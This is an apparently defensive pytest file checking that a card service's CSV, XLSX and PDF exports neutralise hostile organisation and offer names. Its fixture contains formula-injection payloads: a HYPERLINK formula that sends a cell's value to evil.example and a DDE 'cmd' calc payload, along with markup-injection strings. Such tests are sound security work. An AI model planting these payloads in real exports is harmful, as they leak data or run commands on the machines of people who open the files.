"""Issue 11 §2: exports and PDF reports trust names.

Hostile organisation, unit, offer and area names go through every export (CSV, XLSX) and
every PDF (yearly report, card batch). No exported cell may begin with a formula character
(XLSX cells are text, never formulas), and no name may change a PDF's content or crash it.
"""

from __future__ import annotations

import csv
import datetime
import io

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook

from kaikukanta.cards import services as card_services
from kaikukanta.lib.scope import SYSTEM
from kaikukanta.lib.untrusted import FORMULA_LEADS, pdf_text, spreadsheet_cell
from kaikukanta.usage.models import Offer
from tests.conftest import sign_in
from tests.factories import make_card
from tests.stats.conftest import make_use

Y = 2025
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B3,"Theatre")'
NAMES = {
    "area": HYPERLINK + " <b>unclosed",
    "distributor_org": '@SUM(1+1) <a href="http://evil.example/">click</a>',
    "unit": "+cmd|' /C calc'!A0",
    "venue_org": "-2+3 <font size=40>big",
    "site2": "\t=1+1",
    "seller_org": "\r=2+2 </para>",
    "offer": "<b>unclosed",
}


def _rename(obj, name):
    obj.name = name
    obj.save(update_fields=["name"])


@pytest.fixture
def hostile(cast):
    a = cast.a
    _rename(a.area, NAMES["area"])
    _rename(a.distributor_org, NAMES["distributor_org"])
    _rename(a.unit, NAMES["unit"])
    _rename(a.venue_org, NAMES["venue_org"])
    _rename(a.site2, NAMES["site2"])
    _rename(a.seller_org, NAMES["seller_org"])
    offer = Offer.objects.create(venue=a.venue_org, site=a.site2, title_fi=NAMES["offer"],
                                 category="culture")
    cards = [make_card(a.unit, issued_on=datetime.date(Y, 1, 5)) for _ in range(7)]
    for c in cards:
        make_use(c, a.site2, datetime.date(Y, 2, 3), offer=offer, seller=a.seller_org)
        make_use(c, a.site, datetime.date(Y, 3, 3))
    return cast


def _exports(cast):
    a = cast.a
    return [
        (cast.national, "/stats/national/export.{fmt}"),
        (a.culture, f"/stats/area/{a.area.pk}/export.{{fmt}}"),
        (a.welfare, f"/stats/distributor/{a.distributor_org.pk}/export.{{fmt}}"),
        (a.distributor, f"/stats/unit/{a.unit.pk}/export.{{fmt}}"),
        (a.venue, f"/stats/venue/{a.venue_org.pk}/export.{{fmt}}"),
        (a.site_staff, f"/stats/site/{a.site2.pk}/export.{{fmt}}"),
        (a.seller, f"/stats/seller/{a.seller_org.pk}/export.{{fmt}}"),
        (cast.national, "/stats/annual/export.{fmt}"),
    ]


def _starts_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_LEADS) or text.lstrip(" \n").startswith(FORMULA_LEADS)


def test_issue11_spreadsheet_cell_neutralises_every_formula_lead():
    for lead in FORMULA_LEADS:
        assert spreadsheet_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert spreadsheet_cell("  =1+1") == "'  =1+1"
    assert spreadsheet_cell("\n@x") == "'\n@x"
    assert spreadsheet_cell("Theatre = fun") == "Theatre = fun"
    assert spreadsheet_cell(12) == 12 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("a\x07b") == "ab"  # XLSX cannot hold control characters


def test_issue11_no_csv_cell_starts_a_formula(hostile, login, client):
    seen = ""
    for user, url in _exports(hostile):
        sign_in(client, user)
        r = client.get(url.format(fmt="csv") + f"?year={Y}")
        assert r.status_code == 200, url
        text = r.content.decode("utf-8-sig")
        seen += text
        for row in csv.reader(io.StringIO(text), delimiter=";"):
            for cell in row:
                assert not _starts_a_formula(cell), (url, cell)
    # the names were really in the files (neutralised, not dropped)
    for name in ("HYPERLINK", "@SUM(1+1)", "+cmd|", "-2+3", "=1+1", "=2+2", "<b>unclosed"):
        assert name in seen, name


def test_issue11_no_xlsx_cell_is_a_formula(hostile, client):
    seen = []
    for user, url in _exports(hostile):
        sign_in(client, user)
        r = client.get(url.format(fmt="xlsx") + f"?year={Y}")
        assert r.status_code == 200, url
        wb = load_workbook(io.BytesIO(r.content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.append(cell.value)
                        assert not _starts_a_formula(cell.value), (url, cell.value)
    joined = "\n".join(seen)
    for name in ("HYPERLINK", "@SUM(1+1)", "+cmd|", "-2+3", "<b>unclosed"):
        assert name in joined, name


def _pdf_text(pdf: bytes) -> str:
    doc = pdfium.PdfDocument(pdf)
    return "\n".join(page.get_textpage().get_text_range() for page in doc)


@pytest.mark.parametrize("who,url", [
    ("welfare", "/stats/area/{area}/report-{y}.pdf"),
    ("national", "/stats/national/report-{y}.pdf"),
])
def test_issue11_hostile_names_cannot_change_or_break_the_yearly_report(hostile, client, who,
                                                                        url):
    user = hostile.national if who == "national" else hostile.a.welfare
    sign_in(client, user)
    r = client.get(url.format(area=hostile.a.area.pk, y=Y))
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    assert b"/URI" not in r.content and b"evil.example/\"" not in r.content  # no live link
    text = " ".join(_pdf_text(r.content).split())
    # the names show as written, markup and all
    assert "<b>unclosed" in text
    if who == "welfare":
        assert '<a href="http://evil.example/">click</a>' in text


def test_issue11_pdf_text_escapes_markup():
    assert pdf_text('<a href="x">y</a> & <b>') == '&lt;a href="x"&gt;y&lt;/a&gt; &amp; &lt;b&gt;'


def test_issue11_card_batch_pdf_with_a_hostile_area_name(hostile, client):
    batch = card_services.batch_create(scope=SYSTEM, area=hostile.a.area, count=2)
    sign_in(client, hostile.a.welfare)
    r = client.get(f"/cards/stock/{batch.pk}/print.pdf")
    assert r.status_code == 200 and r.content.startswith(b"%PDF")
    doc = pdfium.PdfDocument(r.content)
    assert doc.get_metadata_dict()["Title"].startswith("Kaikukortti " + HYPERLINK)
    assert b"/URI" not in r.content
